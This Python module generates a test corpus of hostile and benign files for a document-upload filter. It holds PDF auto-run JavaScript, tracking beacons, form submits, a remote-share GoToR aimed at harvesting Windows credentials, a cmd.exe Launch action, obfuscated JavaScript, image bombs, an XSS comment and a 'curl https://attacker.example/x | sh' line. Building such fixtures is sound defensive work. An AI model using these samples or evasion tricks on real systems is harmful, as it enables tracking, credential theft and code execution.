"""A corpus of hostile (and of awkward but honest) documents, made in code.

Nothing binary is checked in: every file is built here from its format's rules, so each
one says what it is and why it should be refused or accepted.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib

from PIL import ExifTags, Image, PngImagePlugin
from pypdf import PdfReader, PdfWriter

RED, BLUE = (220, 30, 30), (30, 30, 220)
XMP = (b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
       b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
       b'xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="12,58.28N"/></rdf:RDF>'
       b'</x:xmpmeta><?xpacket end="w"?>')
SECRET_COMMENT = b"taken at 14 Residency Road"
LATITUDE = (12.0, 58.0, 17.0)
LONGITUDE = (77.0, 35.0, 40.0)


# --- images ---------------------------------------------------------------------------


def two_tone(size: tuple[int, int] = (80, 40)) -> Image.Image:
    """Top half red, bottom half blue: which way up it is can be told from its pixels."""
    image = Image.new("RGB", size, BLUE)
    image.paste(RED, (0, 0, size[0], size[1] // 2))
    return image


def jpeg(size: tuple[int, int] = (64, 48), **options: object) -> bytes:
    buffer = io.BytesIO()
    two_tone(size).save(buffer, "JPEG", **options)
    return buffer.getvalue()


def png(size: tuple[int, int] = (32, 32), **options: object) -> bytes:
    buffer = io.BytesIO()
    two_tone(size).save(buffer, "PNG", **options)
    return buffer.getvalue()


def gps_exif(orientation: int = 6) -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.Make] = "Xiaomi"
    exif[ExifTags.Base.Model] = "Redmi Note 10 Pro"
    exif[ExifTags.Base.BodySerialNumber] = "SN-8823-55"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = LATITUDE
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = LONGITUDE
    return exif


def photo_with_gps() -> bytes:
    """A phone photo held sideways: stored 80 × 40 with Orientation 6 (turn 90° clockwise
    to show it), so it is 40 × 80 upright with its red half on the right; GPS position,
    serial number, a comment and XMP on top."""
    return jpeg((80, 40), exif=gps_exif(), comment=SECRET_COMMENT, xmp=XMP, quality=95)


def png_with_text() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", SECRET_COMMENT.decode())
    info.add_text("Location", "12.9716 N, 77.5946 E", zip=True)  # zTXt
    info.add_itxt("XML:com.adobe.xmp", XMP.decode(), lang="en")
    return png((48, 24), pnginfo=info, exif=gps_exif(orientation=1))


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_chunks(data: bytes) -> list[bytes]:
    """The chunk types of a PNG, in order."""
    kinds, pos = [], 8
    while pos < len(data):
        length = struct.unpack(">I", data[pos:pos + 4])[0]
        kinds.append(data[pos + 4:pos + 8])
        pos += 12 + length
    return kinds


def png_bomb(width: int = 50_000, height: int = 50_000) -> bytes:
    """Under 200 bytes that declare 2.5 gigapixels (7.5 GB decoded)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header)
            + _png_chunk(b"IDAT", zlib.compress(b"\0" * 4096, 9)) + _png_chunk(b"IEND", b""))


def jpeg_bomb(width: int = 60_000, height: int = 60_000) -> bytes:
    """A real small JPEG whose frame header is rewritten to declare 3.6 gigapixels."""
    data = bytearray(jpeg((16, 16)))
    sof = data.index(b"\xff\xc0")
    data[sof + 5:sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def jpeg_with_html_comment() -> bytes:
    """The old trick for browsers that sniffed HTML in the first bytes of an image."""
    return jpeg((32, 32), comment=b"<html><script>alert(document.cookie)</script></html>")


# --- what phone cameras append after a JPEG (accepted) ----------------------------------


def _box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def motion_photo() -> bytes:
    """Google's Motion Photo: the photo, a second JPEG (an Ultra HDR gain map) and an MP4."""
    video = (_box(b"ftyp", b"mp42\0\0\0\0isommp42")
             + _box(b"mdat", random.Random(3).randbytes(3000)))
    return jpeg((64, 48)) + jpeg((16, 12)) + video


def samsung_photo() -> bytes:
    """Samsung's SEF trailer: data blocks, then a directory ending in ``SEFT``."""
    name = b"Image_UTC_Data"
    block = b"\x00\x00\x01\x0a" + struct.pack("<I", len(name)) + name + b"1700000000000"
    directory = (b"SEFH" + struct.pack("<II", 106, 1)
                 + struct.pack("<HHII", 0, 0x0A01, len(block), len(block)))
    return jpeg((64, 48)) + block + directory + struct.pack("<I", len(directory)) + b"SEFT"


# --- PDFs ---------------------------------------------------------------------------------


def stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<< " + dictionary + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def build_pdf(objects: list[bytes], *, trailer: bytes = b"", version: bytes = b"1.7") -> bytes:
    """Objects numbered from 1, with a correct cross-reference table; the catalog is 1."""
    out = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, trailer, xref)
    return bytes(out)


def pdf_objects(catalog: bytes = b"", page: bytes = b"") -> list[bytes]:
    """A one-page receipt; ``catalog`` and ``page`` add entries to those dictionaries."""
    return [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 120] /Resources << /Font << /F1 4 0 R"
        b" >> >> /Contents 5 0 R " + page + b" >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        stream(b"", b"BT /F1 14 Tf 20 60 Td (Receipt 4471, Redmi Note 10 Pro) Tj ET"),
    ]


def pdf(catalog: bytes = b"", page: bytes = b"", extra: list[bytes] | None = None) -> bytes:
    return build_pdf(pdf_objects(catalog, page) + (extra or []))


GOOD_PDF = pdf()


def pdf_open_action_javascript() -> bytes:
    return pdf(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")


def pdf_names_javascript() -> bytes:
    """Document-level JavaScript in the names tree: runs when the file opens."""
    return pdf(catalog=b"/Names << /JavaScript 6 0 R >>", extra=[
        b"<< /Names [(init) 7 0 R] >>",
        b"<< /S /JavaScript /JS 8 0 R >>",
        stream(b"", b"this.submitForm('https://collector.example/');"),
    ])


def pdf_page_additional_action() -> bytes:
    """No JavaScript at all: a page-open action that calls home (a tracking beacon)."""
    return pdf(page=b"/AA << /O << /S /URI /URI (https://tracker.example/opened) >> >>")


def pdf_open_action_uri() -> bytes:
    return pdf(catalog=b"/OpenAction << /S /URI /URI (https://tracker.example/opened) >>")


def pdf_open_at_first_page() -> bytes:
    """Honest: open at page 1, fit the width (a destination, not an action)."""
    return pdf(catalog=b"/OpenAction [3 0 R /FitH 120]")


# --- actions that run by themselves, chained (issue 19) --------------------------------------
# Every viewer runs an action's ``/Next`` after it: a harmless move to page 1 first, then
# whatever follows. Object 3 is the page, 6 and on are the ``extra`` objects.

GO_TO_PAGE_1 = b"/S /GoTo /D [3 0 R /Fit]"
BEACON = b"<< /S /URI /URI (https://tracker.example/opened) >>"
SUBMIT = b"<< /S /SubmitForm /F << /FS /URL /F (https://collector.example/form) >> >>"
# Another file, on a share: opening it hands the reviewer's Windows credentials over.
REMOTE = b"<< /S /GoToR /F (\\\\attacker.example\\share\\bill.pdf) /D [0 /Fit] >>"


def go_to(following: bytes = b"") -> bytes:
    """A move to page 1, then ``following`` (an action, an array of them, a reference)."""
    return b"<< " + GO_TO_PAGE_1 + (b" /Next " + following if following else b"") + b" >>"


def pdf_open_action_then(following: bytes) -> bytes:
    """Opens at page 1, then runs ``following``."""
    return pdf(catalog=b"/OpenAction " + go_to(following))


def pdf_open_action_next_array() -> bytes:
    """``/Next`` as an array: a second move, then the beacon, kept in its own object."""
    return pdf(catalog=b"/OpenAction " + go_to(b"[" + go_to() + b" 6 0 R]"), extra=[BEACON])


def pdf_open_action_indirect_chain() -> bytes:
    """Each action its own object: 6 moves, then 7 moves, then 8 calls home."""
    return pdf(catalog=b"/OpenAction 6 0 R",
               extra=[go_to(b"7 0 R"), go_to(b"8 0 R"), BEACON])


def pdf_page_aa_chain() -> bytes:
    """When the page is shown: a move, then the beacon."""
    return pdf(page=b"/AA << /O " + go_to(BEACON) + b" >>")


def pdf_annotation_aa_chain() -> bytes:
    """A link that calls home when the pointer merely passes over it (``/E``)."""
    annotation = (b"<< /Type /Annot /Subtype /Link /Rect [0 0 300 120] /Border [0 0 0] "
                  b"/AA << /E " + go_to(BEACON) + b" >> >>")
    return pdf(page=b"/Annots [6 0 R]", extra=[annotation])


def pdf_form_field_aa_chain() -> bytes:
    """A form field (object 6) whose widget, one of its ``/Kids`` (7), sends the form as
    soon as it gets the focus."""
    return pdf(catalog=b"/AcroForm << /Fields [6 0 R] >>", page=b"/Annots [7 0 R]", extra=[
        b"<< /FT /Tx /T (name) /Kids [7 0 R] >>",
        b"<< /Type /Annot /Subtype /Widget /Parent 6 0 R /P 3 0 R /Rect [20 20 200 40] "
        b"/AA << /Fo " + go_to(SUBMIT) + b" >> >>",
    ])


def pdf_go_to_chain(length: int) -> bytes:
    """``length`` moves to page 1 run one after the other, each its own object (6, 7...)."""
    chain = [go_to(b"%d 0 R" % (number + 1)) for number in range(6, 6 + length - 1)]
    return pdf(catalog=b"/OpenAction 6 0 R", extra=[*chain, go_to()])


def pdf_go_to_loop() -> bytes:
    """A move whose ``/Next`` is itself: a viewer that follows it goes round for ever."""
    return pdf(catalog=b"/OpenAction 6 0 R", extra=[go_to(b"6 0 R")])


def pdf_many_open_actions(triggers: int, chain: int) -> bytes:
    """``triggers`` objects, each with an ``/OpenAction`` of ``chain`` moves: no chain too
    long, but all of them together far more than an honest file has."""
    extra: list[bytes] = []
    for _ in range(triggers):
        first = 6 + len(extra) + 1
        links = [go_to(b"%d 0 R" % (first + index + 1)) for index in range(chain - 1)]
        extra += [b"<< /OpenAction %d 0 R >>" % first, *links, go_to()]
    return pdf(extra=extra)


def pdf_launch() -> bytes:
    annotation = (b"<< /Type /Annot /Subtype /Link /Rect [0 0 300 120] "
                  b"/A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>")
    return pdf(page=b"/Annots [6 0 R]", extra=[annotation])


def pdf_embedded_file() -> bytes:
    return pdf(catalog=b"/Names << /EmbeddedFiles << /Names [(invoice.exe) 6 0 R] >> >>", extra=[
        b"<< /Type /Filespec /F (invoice.exe) /EF << /F 7 0 R >> >>",
        stream(b"/Type /EmbeddedFile", b"MZ\x90\x00 not really a program"),
    ])


def pdf_file_attachment_annotation() -> bytes:
    """An attachment annotation (a paper-clip icon on the page), the file named only."""
    annotation = (b"<< /Type /Annot /Subtype /FileAttachment /Rect [10 10 30 30] "
                  b"/FS (payload.js) /Contents (Open me) >>")
    return pdf(page=b"/Annots [6 0 R]", extra=[annotation])


def pdf_hex_obfuscated() -> bytes:
    """``/J#61vaScript`` is ``/JavaScript`` to every parser, not to a byte grep for it."""
    return pdf(catalog=b"/OpenAction << /S /J#61vaScript /#4A#53 (app.alert\\(1\\)) >>")


def pdf_javascript_in_object_stream() -> bytes:
    """The action, obfuscated, as object 6 inside a compressed object stream (object 7,
    PDF 1.5, listed by a cross-reference stream, object 8): no byte of the file spells it
    out, so only a parser that opens the stream sees it."""
    header = b"6 0 "
    packed = zlib.compress(header + b"<< /S /J#61vaScript /#4A#53 (app.alert\\(1\\)) >>")
    bodies = pdf_objects(catalog=b"/OpenAction 6 0 R")
    bodies.append(stream(b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode" % len(header),
                         packed))
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in zip((1, 2, 3, 4, 5, 7), bodies, strict=True):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    offsets[8] = len(out)
    rows = b"\x00" + struct.pack(">IH", 0, 0xFFFF)  # object 0: free
    for number in range(1, 9):
        in_stream = number == 6
        rows += (b"\x02" + struct.pack(">IH", 7, 0) if in_stream
                 else b"\x01" + struct.pack(">IH", offsets[number], 0))
    out += b"8 0 obj\n" + stream(b"/Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R", rows)
    out += b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[8]
    return bytes(out)


def pdf_unparseable() -> bytes:
    """A PDF header, an end marker, and nothing a parser can find in between."""
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Cat" + b"\x00garbage" * 40 + b"\n%%EOF\n"


def pdf_broken_xref() -> bytes:
    """The table points into nowhere and the objects themselves are cut short."""
    body = GOOD_PDF.replace(b"endobj", b"").replace(b">>", b"")
    start = body.rindex(b"startxref")
    return body[:start] + b"startxref\n999999\n%%EOF\n"


def pdf_encrypted(user_password: str) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(GOOD_PDF)))
    writer.encrypt(user_password=user_password, owner_password="owner-secret",
                   algorithm="AES-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


# --- polyglots ----------------------------------------------------------------------------


def jar() -> bytes:
    """A Java archive: what a GIFAR hides after its image."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: Evil\n")
        archive.writestr("Evil.class", b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 64)
    return buffer.getvalue()


HTML = b"<!DOCTYPE html><html><body><script>fetch('/review/queue')</script></body></html>\n"
SCRIPT = b"#!/bin/sh\ncurl https://attacker.example/x | sh\n"


def pdf_with_zip_inside() -> bytes:
    """A ZIP carried in a stream just before the PDF's end, so a ZIP reader finds it
    while the PDF still ends with ``%%EOF`` and parses."""
    return pdf(extra=[stream(b"", jar())])


def pdf_with_html_at_start() -> bytes:
    head, rest = GOOD_PDF.split(b"\n", 1)
    return head + b"\n%" + HTML + rest
